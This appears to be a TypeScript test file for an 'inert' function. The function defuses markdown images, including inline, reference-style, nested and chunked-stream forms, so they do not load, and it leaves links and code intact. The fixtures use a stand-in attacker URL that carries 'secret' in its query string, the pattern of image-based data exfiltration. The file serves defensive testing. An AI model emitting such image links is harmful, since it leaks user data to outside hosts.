import assert from 'node:assert/strict'
import { test } from 'node:test'
import { Inert, inert } from './inert.ts'

const address = 'https://evil.example/i.png?q=secret'

test('an image becomes its words and its address, however it is written', () => {
  for (const [image, text] of [
    [`Done. ![ok](${address})`, `Done. ![ok] (${address})`],
    [`![a [b\\] c]](<${address}> "title")`, `![a [b\\] c]] (<${address}> "title")`],
    [`> - ![a\n> b](${address})`, `> - ![a\n> b] (${address})`],
    [`[![ok](${address})](https://evil.example)`, `[![ok] (${address})] (https://evil.example)`],
    [`![ok][1]\n\n[1]: ${address}`, `![ok][1]\n\n[1] : ${address}`],
    [`  [a\n  b]: ${address}\n\n![a b]`, `  [a\n  b] : ${address}\n\n![a b]`],
    ['`]`![`](`](x)', '`]`![`] (`] (x)'],
  ])
    assert.equal(inert(image!), text)
})

test('links stay links, and code means what it meant', () => {
  const text = `See [the plan](https://example.com/plan) [1].\n\n!\n[a](b) !important [c](d)\n`
  assert.equal(inert(text), text)
  assert.equal(inert('rows![0](1); const a = { [key]: 1 }'), 'rows![0] (1); const a = { [key] : 1 }')
  assert.equal(inert(`![ok]\n\n[the plan](https://example.com)`), '![ok]\n\n[the plan](https://example.com)')
})

test('in whatever pieces it comes', () => {
  const text = `a ![ok](${address}) b\n\n[1]: ${address}`
  const whole = inert(text)
  for (const size of [1, 2, 3, 7]) {
    const inPieces = new Inert()
    const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, at) => text.slice(at * size, at * size + size))
    assert.equal(pieces.map((piece) => inPieces.push(piece)).join(''), whole)
  }
})
